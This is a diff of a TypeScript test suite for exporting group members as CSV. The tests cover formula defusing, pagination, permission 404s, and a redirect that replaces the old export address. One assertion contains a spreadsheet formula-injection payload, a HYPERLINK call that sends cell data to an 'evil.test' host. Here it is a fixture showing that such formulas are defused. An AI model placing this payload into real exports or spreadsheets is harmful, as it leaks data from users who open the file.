@@ -564,15 +564,9 @@ describe('group photo', () => {
 });
 
 describe('exporting members as CSV', () => {
-  it('streams RFC 4180 rows with formulas defused, as an attachment, and audits the export', async () => {
+  it('writes RFC 4180 rows with formulas defused', async () => {
     const group = await makeGroup({ name: 'Export: "Q1", all/any' }, [id.ada, id.carol, id.mallory]);
-    const response = (await route(as.ada, exportCsv, group.id)).result!;
-    expect(response.status).toBe(200);
-    expect(response.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
-    expect(response.headers.get('content-disposition')).toMatch(
-      /^attachment; filename="export-q1-all-any-members\.csv"; filename\*=UTF-8''[A-Za-z0-9%._-]+$/,
-    );
-    const body = await response.text();
+    const body = await new Response(membersCsvStream(await getDb(), { orgId, groupId: group.id })).text();
     expect(body.startsWith('email,first_name,last_name,username,added_at\r\n')).toBe(true);
     expect(body.endsWith('\r\n')).toBe(true);
     const rows = parseCsv(body);
@@ -587,7 +581,14 @@ describe('exporting members as CSV', () => {
     ]);
     expect(body).toContain(`"'=HYPERLINK(""http://evil.test/?leak=""&A1,""Click"")"`);
     expect(body).not.toMatch(/(^|,)=/m);
-    expect((await audits('group.exported', group.id))[0]).toMatchObject({ actorUserId: id.ada, data: { members: 3 } });
+  });
+
+  it('the address that once answered with the CSV leads to the group’s page, and exports nothing', async () => {
+    const group = await makeGroup({ name: 'Old link' }, [id.carol]);
+    const response = (await route(as.ada, exportCsv, group.id)).result!;
+    expect(response.status).toBe(303);
+    expect(response.headers.get('location')).toBe(`/org-settings/groups/${group.id}`);
+    expect(await audits('group.exported', group.id)).toEqual([]);
   });
 
   it('reads every member exactly once across keyset pages', async () => {
@@ -604,9 +605,10 @@ describe('exporting members as CSV', () => {
     ).toHaveLength(1);
   });
 
-  it('is a 404 without the permission, for another organization’s group, and signed out', async () => {
+  it('is a 404 without the permission, for another organization’s group or a malformed id, and signed out', async () => {
     const group = await makeGroup({ name: 'Secret list' }, [id.carol]);
     for (const [browser, groupId] of [
+      [as.ada, 'not-a-uuid'],
       [as.bob, group.id],
       [as.carol, group.id],
       [as.ada, id.foreignGroup],
